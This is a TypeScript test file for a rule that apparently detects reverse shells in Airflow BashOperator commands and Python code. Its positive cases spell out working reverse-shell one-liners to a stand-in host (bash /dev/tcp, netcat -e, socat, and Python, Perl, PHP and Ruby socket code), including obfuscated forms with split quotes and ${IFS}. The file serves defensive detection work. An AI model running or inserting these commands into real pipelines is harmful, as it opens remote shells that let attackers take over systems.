import { describe, expect, test } from "vitest";
import { placesIn } from "../../analysis/inspect-texts.ts";

const places = (text: string) => placesIn("SEC-012", text);

const bash = (command: string) =>
  `from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="${command}")\n`;

describe("a shell on the network", () => {
  test.each([
    [
      "bash",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")\n',
    ],
    [
      "netcat",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="nc 203.0.113.7 4444 -e /bin/sh")\n',
    ],
    [
      "exec",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | sh >&5")\n',
    ],
    [
      "socat",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="socat tcp:203.0.113.7:4444 exec:sh")\n',
    ],
    ["a program in the worker's place", 'import os\nos.execvp("nc", ["x", "-e", "/bin/sh", "203.0.113.7", "4444"])\n'],
    [
      "a program by its words",
      'import os\nos.spawnl(os.P_NOWAIT, "/bin/bash", "x", "-c", "sh -i >& /dev/tcp/203.0.113.7/4444")\n',
    ],
    ["quotes within", bash("b'a'sh \\\"-i\\\" >& /dev/t'c'p/203.0.113.7/4444 0>&1")],
    ["no spaces", bash(`bash\${IFS}-i>&/dev/tcp/203.0.113.7/4444`)],
    ["a shell that reads from the network", bash("/bin/bash -l > /dev/tcp/203.0.113.7/4444 0<&1")],
    [
      "Python's code",
      bash(
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect((\\"x\\",1));os.dup2(s.fileno(),0);pty.spawn(\\"sh\\")\'',
      ),
    ],
    [
      "Python's code in words",
      'import subprocess\nsubprocess.run(["python3", "-c", "import socket,os;s=socket.create_connection((1,2));os.dup2(s.fileno(),0)"])\n',
    ],
    ["Perl's code", bash("perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,x);STDIN->fdopen($c,r);system$_ while<>;'")],
    ["PHP's code", bash("php -r '$s=fsockopen(x,1);exec(\\\"sh <&3 >&3\\\");'")],
    ["Ruby's code", bash("ruby -rsocket -e 'f=TCPSocket.open(x,1).to_i;exec sprintf(\\\"sh <&%d\\\",f)'")],
    ["Python", 'import socket, os, pty\npty.spawn("/bin/sh")\n'],
    ["a shell with arguments", 'import pty\npty.spawn(["/bin/bash", "-i"])\n'],
    [
      "what comes from the network",
      "import pty, socket\ns = socket.create_connection(('x', 1))\npty.spawn(s.recv(9))\n",
    ],
    ["its output", "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"],
  ])("%s", async (_, text) => {
    expect(await places(text)).toHaveLength(1);
  });

  test.each([
    [
      "waiting for a port",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="timeout 3 bash -c \'</dev/tcp/db/5432\'")\n',
    ],
    [
      "waiting by netcat",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="nc -z db 5432")\n',
    ],
    ["waiting by Python", bash("python -c 'import socket; socket.create_connection((\\\"db\\\", 5432))'")],
    ["waiting by a shell's option", bash('bash -c \\"</dev/tcp/db/5432\\"')],
    ["Perl on text", bash("perl -pe 's/a/b/' x | sort")],
    ["PHP", bash("php -r 'echo 1;'")],
    ["Ruby", bash("ruby -e 'puts 1'")],
    [
      "redirecting",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="run.sh >& out.txt")\n',
    ],
    ["a recorded program", "import pty, sys\npty.spawn(sys.argv[1:])\n"],
    ["another descriptor", 'import os\nf = open("x")\nos.dup2(f.fileno(), 0)  # eval\n'],
  ])("not: %s", async (_, text) => {
    expect(await places(text)).toEqual([]);
  });
});
